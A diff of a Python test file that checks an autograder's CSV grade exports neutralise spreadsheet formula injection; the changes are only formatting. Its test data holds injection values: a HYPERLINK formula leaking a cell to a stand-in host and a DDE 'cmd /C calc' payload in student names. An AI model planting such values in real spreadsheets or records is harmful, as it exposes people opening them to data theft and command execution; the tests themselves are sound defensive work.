@@ -2,6 +2,7 @@
 grades.csv and grades_per_check.csv. Student ids, file names, names and e-mail addresses that start with each
 of =, +, -, @, a tab and a carriage return are written as text (a leading ', as OWASP recommends), every other
 cell as it was."""
+
 import csv
 import io
 
@@ -15,7 +16,7 @@ from autograder.frontends.classgrade import grade_class
 from autograder.grading.options import GradingOptions
 from nbgrader_course import Shell, make_course
 
-pytestmark = pytest.mark.quick      # in `make test-quick`: this wing's fast tier
+pytestmark = pytest.mark.quick  # in `make test-quick`: this wing's fast tier
 
 PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"click")'
@@ -46,7 +47,7 @@ def test_grade_class_writes_every_student_id_and_file_name_as_text(tmp_path):
     root.mkdir()
     names = {f"{prefix}SUM(1+1)" for prefix in PREFIXES} | {"plain"}
     for name in names:
-        (root / f"{name}.ipynb").write_text("not a notebook")                  # read, refused, no sandbox run
+        (root / f"{name}.ipynb").write_text("not a notebook")  # read, refused, no sandbox run
     (root / "folder_of_=cmd").mkdir()
     (root / "folder_of_=cmd" / "@evil.ipynb").write_text("{}")
     grade_class(root, tmp_path / "out", options=GradingOptions(seed=3), workers=1, progress=False)
@@ -57,7 +58,7 @@ def test_grade_class_writes_every_student_id_and_file_name_as_text(tmp_path):
     assert set(table) == {exports.cell(name_text(n)) for n in names} | {"folder_of_=cmd"}
     assert {"'=SUM(1+1)", "'@SUM(1+1)", "\\tSUM(1+1)", "\\rSUM(1+1)"} <= set(table)
     assert table["folder_of_=cmd"][1] == "'@evil.ipynb"
-    assert all("could not be read" not in " ".join(row) for row in table.values())    # notes stay in results.json
+    assert all("could not be read" not in " ".join(row) for row in table.values())  # notes stay in results.json
 
 
 @pytest.mark.slow
@@ -66,15 +67,16 @@ def test_nbgrader_export_writes_every_id_name_and_address_as_text(tmp_path):
     shell = Shell()
     shell("nbgrader", "generate_assignment", kit.KIT.name, cwd=course)
     students = [f"{prefix}student{index}" for index, prefix in enumerate(PREFIXES)]
-    for student in students:        # graded (an unreadable file: the kit's own result, no sandbox run), so exported
+    for student in students:  # graded (an unreadable file: the kit's own result, no sandbox run), so exported
         path = course / "submitted" / student / kit.KIT.name / kit.KIT.notebook_name
         path.parent.mkdir(parents=True)
         path.write_text("not a notebook")
     shell("nbgrader", "autograde", kit.KIT.name, cwd=course)
     with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
         for prefix, student in zip(PREFIXES, students):
-            gradebook.update_or_create_student(student, first_name=prefix + PAYLOAD,
-                                               last_name=prefix + "cmd|' /C calc'!A0", email=f"{prefix}x@example.org")
+            gradebook.update_or_create_student(
+                student, first_name=prefix + PAYLOAD, last_name=prefix + "cmd|' /C calc'!A0", email=f"{prefix}x@example.org"
+            )
     shell("nbgrader", "export", cwd=course)
     for name in ("grades.csv", "grades_per_check.csv"):
         assert_runs_nothing(course / name)
